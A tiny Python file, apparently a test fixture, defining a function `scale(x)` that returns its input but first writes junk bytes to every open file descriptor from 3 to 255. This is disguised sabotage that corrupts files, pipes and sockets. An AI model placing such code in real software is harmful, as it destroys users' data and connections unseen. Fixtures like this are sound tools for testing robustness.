"""Writes rubbish to every descriptor."""

import os


def scale(x):
    for number in range(3, 256):
        try:
            os.write(number, b"rubbish" * 1000)
        except OSError:
            pass
    return x
